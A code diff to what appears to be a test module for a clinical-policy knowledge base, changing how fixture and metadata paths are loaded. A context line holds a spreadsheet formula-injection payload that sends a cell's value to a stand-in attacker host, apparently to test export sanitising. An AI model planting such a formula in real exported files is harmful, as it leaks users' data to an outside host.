@@ -18,12 +18,13 @@ from typing import Any
 
 from openpyxl import load_workbook
 
+from kb.bench.latency import HOOK
 from kb.surfaces.api import KnowledgeBase, bundled_policy_paths
 from kb.surfaces.export import export_csv, export_xlsx
 from kb.surfaces.site.cds import MAX_BODY_BYTES
+from kb.surfaces.site.queries import METADATA
 
 ROOT = Path(__file__).resolve().parents[2]
-HOOK = ROOT / "tests" / "fixtures" / "fhir" / "besponsa-order-sign.json"
 LATER = ROOT / "tests" / "fixtures" / "CP.PHAR.359_12.25-constructed.txt"
 SIGN = "/cds-services/policy-as-data-order-sign"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
@@ -33,7 +34,7 @@ def site(database: Path) -> Any:
     """The Datasette site of ``database`` with the project's metadata, in process."""
     from datasette.app import Datasette
 
-    metadata = json.loads((ROOT / "datasette_metadata.json").read_text(encoding="utf-8"))
+    metadata = json.loads(METADATA.read_text(encoding="utf-8"))
     return Datasette(immutables=[str(database)], metadata=metadata)
 
 
